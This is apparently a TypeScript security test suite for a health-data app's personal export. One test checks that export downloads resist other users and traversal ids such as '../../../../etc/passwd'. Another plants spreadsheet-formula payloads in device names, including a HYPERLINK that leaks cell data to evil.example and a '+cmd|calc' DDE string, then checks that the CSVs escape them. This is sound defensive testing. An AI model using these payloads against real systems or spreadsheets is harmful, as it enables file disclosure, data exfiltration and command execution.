import { takeIn } from '../../journeys/support/people.js';
import type { Row } from '../row.js';
import { Findings } from '../row.js';
import { Caller } from '../support/caller.js';
import { FileDesk } from '../support/file-desk.js';
import { makeOwnExport } from '../support/own-export.js';
import { zipEntries } from '../support/zip-entries.js';

const json = { 'content-type': 'application/json' };

const replayedDownload: Row = {
  id: 'H018',
  run: async (world) => {
    const findings = new Findings();
    const { sessions, users, url } = world;
    const exportId = await makeOwnExport(sessions.pat1b);
    const fetchAs = (caller: Caller, id: unknown, path = '/exports/personal') =>
      caller.send(path, { method: 'POST', headers: json, body: JSON.stringify({ exportId: id }) });
    const own = await fetchAs(users.pat1b, exportId);
    findings.hold(own.status === 200 && own.text.startsWith('PK'), `its owner got ${own.status}`);
    const others = ['pat1', 'carer1', 'admin1', 'clin1', 'emp2', 'admin2'] as const;
    const callers: [string, Caller][] = others.map((name) => [name, users[name]]);
    callers.push(['nobody', Caller.unknown(url)]);
    callers.push(['its cookie alone', Caller.with(url, { cookie: users.pat1b.credentials['cookie']! })]);
    for (const [name, caller] of callers) {
      const reply = await fetchAs(caller, exportId);
      findings.hold(
        [401, 403, 404].includes(reply.status) && !reply.text.includes('PK'),
        `${name} got ${reply.status}`,
      );
    }
    for (const odd of [
      `../${exportId}`,
      `${exportId}.zip`,
      `${exportId}/../../${exportId}`,
      '../../../../etc/passwd',
      `${exportId}\0`,
      [exportId],
      { $ne: '' },
      '',
      null,
      '00000000-0000-4000-8000-000000000000',
    ]) {
      const reply = await fetchAs(users.pat1b, odd);
      findings.hold([400, 404].includes(reply.status), `${JSON.stringify(odd)} answered ${reply.status}`);
    }
    for (const path of [
      `/exports/personal?exportId=${exportId}`,
      `/exports/personal/${exportId}`,
      `/exports/personal?file=../${exportId}.zip`,
    ]) {
      const reply = await users.pat1b.send(path);
      findings.hold([404, 405].includes(reply.status), `GET ${path} answered ${reply.status}`);
    }
    await world.asOwner(
      "update personal_exports set expires_at = now() - interval '1 second' where id = $1",
      [exportId],
    );
    const late = await fetchAs(users.pat1b, exportId);
    findings.hold(late.status === 404, `after its time its owner got ${late.status}`);
    return findings.evidence(
      'There is no address that carries a right: an export is fetched by POST within the session of its owner. Six others, nobody, the cookie without its token, ten odd ids, three addresses and its owner after its time got nothing.',
    );
  },
};

const formulas = [
  '=HYPERLINK("http://evil.example?"&A1)',
  '+cmd|calc!A1',
  '@SUM(A1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

const tableFormula: Row = {
  id: 'H080',
  run: async (world) => {
    const findings = new Findings();
    const { sessions, users, regimen } = world;
    const { session, participantId } = await takeIn(regimen, sessions.carer1, 'formula1', {});
    const imported = await new FileDesk(session, participantId).import({
      name: 'export.xml',
      bytes: Buffer.from(appleExport(formulas)),
    });
    findings.hold(
      imported.observationsStored === formulas.length,
      `the import came to ${imported.status} with ${imported.observationsStored} values`,
    );
    const exportId = await makeOwnExport(session);
    const { status, bytes } = await session.download('/exports/personal', { exportId });
    findings.hold(status === 200, `the export answered ${status}`);
    let [tables, cells, escaped] = [0, 0, 0];
    for (const [name, content] of zipEntries(bytes)) {
      if (!name.endsWith('.csv')) continue;
      tables += 1;
      for (const cell of cellsOf(content.toString())) {
        cells += 1;
        if (/^'[=+@\-\t\r]/.test(cell)) escaped += 1;
        findings.hold(!isFormula(cell), `${name} has the cell ${cell.slice(0, 60)}`);
      }
    }
    findings.hold(escaped > 0, 'no formula came as far as a table, so nothing was tried');
    const trail = await users.admin1.ask('mutation { exportAuditTrail { csv } }');
    const { csv = '' } = (trail.data?.['exportAuditTrail'] ?? {}) as { csv?: string };
    findings.hold(csv.length > 100, 'the audit trail gave no table');
    for (const cell of cellsOf(csv)) findings.hold(!isFormula(cell), `the trail has the cell ${cell}`);
    return findings.evidence(
      `Formulas as names of the devices of a person: ${cells} cells of ${tables} tables of their export and those of the audit trail were read, none begins a formula, ${escaped} stand behind an apostrophe.`,
    );
  },
};

/** Weights by devices that are named like formulas. */
function appleExport(names: readonly string[]): string {
  const escaped = (text: string) =>
    text
      .replaceAll('&', '&amp;')
      .replaceAll('"', '&quot;')
      .replaceAll('\t', '&#9;')
      .replaceAll('\r', '&#13;');
  const records = names.map((name, index) => {
    const at = `2024-03-0${index + 1} 08:00:00 +0000`;
    return `<Record type="HKQuantityTypeIdentifierBodyMass" sourceName="${escaped(name)}" unit="kg" creationDate="${at}" startDate="${at}" endDate="${at}" value="70"/>`;
  });
  return `<HealthData locale="en_GB"><ExportDate value="2024-04-01 08:00:00 +0000"/>${records.join('')}</HealthData>`;
}

/** A number may begin with a sign. */
function isFormula(cell: string): boolean {
  return /^[=+@\-\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}

function* cellsOf(csv: string): Generator<string> {
  for (const [, quoted, plain] of csv
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\n]*))/g))
    yield quoted === undefined ? (plain ?? '').replace(/\r$/, '') : quoted.replaceAll('""', '"');
}

export const takenAlongRows: readonly Row[] = [replayedDownload, tableFormula];
